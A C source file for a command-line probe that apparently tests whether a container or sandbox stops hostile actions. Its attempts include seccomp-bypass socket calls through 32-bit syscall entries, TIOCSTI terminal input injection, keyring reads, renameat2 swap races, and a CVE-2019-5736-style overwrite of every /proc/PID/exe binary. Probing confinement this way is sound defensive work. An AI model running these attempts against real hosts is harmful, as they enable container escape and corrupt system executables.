/* probe.c - what a hostile process tries and a shell cannot: one attempt a word. Static, for both
 * the host and a container.
 *
 *     probe socket FAMILY          socket(2), as 64-bit programs call it
 *     probe socket32 FAMILY        the same through the 32-bit entry, int 0x80
 *     probe socketcall32 FAMILY    and through socketcall(2), whose arguments no filter can see
 *     probe tiocsti TEXT           pushes TEXT into the input of fd 0's terminal
 *     probe tty                    whether there is a controlling terminal
 *     probe keyring                the session keyring's description
 *     probe overwrite MS           opens every /proc/PID/exe for writing, for so long
 *     probe swap A B MS            exchanges two names, for so long
 *
 * Prints "done" or what the kernel said; ends with 0. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { STREAM = 1, SEQPACKET = 5, I386_SOCKETCALL = 102, I386_SOCKET = 359, SOCKETCALL_SOCKET = 1 };

static int say(long result)
{
	puts(result < 0 ? strerror((int)-result) : "done");
	return 0;
}

static long long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000ll + now.tv_nsec / 1000000;
}

/* AF_ALG takes SOCK_SEQPACKET alone. */
static int type_of(int family)
{
	return family == 38 ? SEQPACKET : STREAM;
}

static int try_socket(int family)
{
	long fd = syscall(SYS_socket, family, type_of(family), 0);

	return say(fd < 0 ? -errno : fd);
}

#ifdef __x86_64__
/* What it points to must lie below 4 GB: it does in a program that is no PIE. */
static int arguments[3];

static long call32(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static int try_socket32(int family)
{
	return say(call32(I386_SOCKET, family, type_of(family), 0));
}

static int try_socketcall32(int family)
{
	arguments[0] = family;
	arguments[1] = type_of(family);
	return say(call32(I386_SOCKETCALL, SOCKETCALL_SOCKET, (long)(unsigned long)arguments, 0));
}
#else
static int try_socket32(int family)
{
	return try_socket(family);
}

static int try_socketcall32(int family)
{
	return try_socket(family);
}
#endif

static int try_tiocsti(const char *text)
{
	int result = 0;

	for (; *text && result == 0; text++)
		result = ioctl(0, TIOCSTI, text);
	return say(result < 0 ? -errno : 0);
}

static int try_tty(void)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

	return say(fd < 0 ? -errno : 0);
}

static int show_keyring(void)
{
	enum { DESCRIBE = 6, SESSION = -3 };
	char text[256] = "";
	long len = syscall(SYS_keyctl, DESCRIBE, SESSION, text, sizeof(text) - 1, 0);

	if (len < 0)
		return say(-errno);
	puts(text);
	return 0;
}

/* CVE-2019-5736: through an fd of the link, after the program has become another. */
static unsigned write_to(const char *path)
{
	int link = open(path, O_PATH | O_CLOEXEC), fd;
	char again[40];

	if (link < 0)
		return 0;
	snprintf(again, sizeof(again), "/proc/self/fd/%d", link);
	fd = open(again, O_WRONLY | O_CLOEXEC);
	close(link);
	if (fd < 0)
		return 0;
	if (write(fd, "#!/bin/owned\n", 13) < 0) {
		close(fd);
		return 0;
	}
	close(fd);
	return 1;
}

static int overwrite(long long ms)
{
	long long end = now_ms() + ms;
	unsigned seen = 0, written = 0;

	while (now_ms() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			char path[300], target[100];
			ssize_t len;

			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			len = readlink(path, target, sizeof(target) - 1);
			target[len > 0 ? len : 0] = '\0';
			/* What is the container's own may well be written to. */
			if (len <= 0 || strstr(target, "busybox") || strstr(target, "probe"))
				continue;
			seen++;
			written += write_to(path);
		}
		if (proc)
			closedir(proc);
	}
	printf("written %u%s\n", written, seen ? "" : ", and nobody was met");
	return 0;
}

static int swap(const char *a, const char *b, long long ms)
{
	long long end = now_ms() + ms;
	unsigned long times = 0;

	while (now_ms() < end)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
			times++;
	printf("%lu\n", times);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (argc == 3 && !strcmp(what, "socket"))
		return try_socket(atoi(argv[2]));
	if (argc == 3 && !strcmp(what, "socket32"))
		return try_socket32(atoi(argv[2]));
	if (argc == 3 && !strcmp(what, "socketcall32"))
		return try_socketcall32(atoi(argv[2]));
	if (argc == 3 && !strcmp(what, "tiocsti"))
		return try_tiocsti(argv[2]);
	if (argc == 2 && !strcmp(what, "tty"))
		return try_tty();
	if (argc == 2 && !strcmp(what, "keyring"))
		return show_keyring();
	if (argc == 3 && !strcmp(what, "overwrite"))
		return overwrite(atoll(argv[2]));
	if (argc == 5 && !strcmp(what, "swap"))
		return swap(argv[2], argv[3], atoll(argv[4]));
	fputs("probe: see its first lines\n", stderr);
	return 2;
}
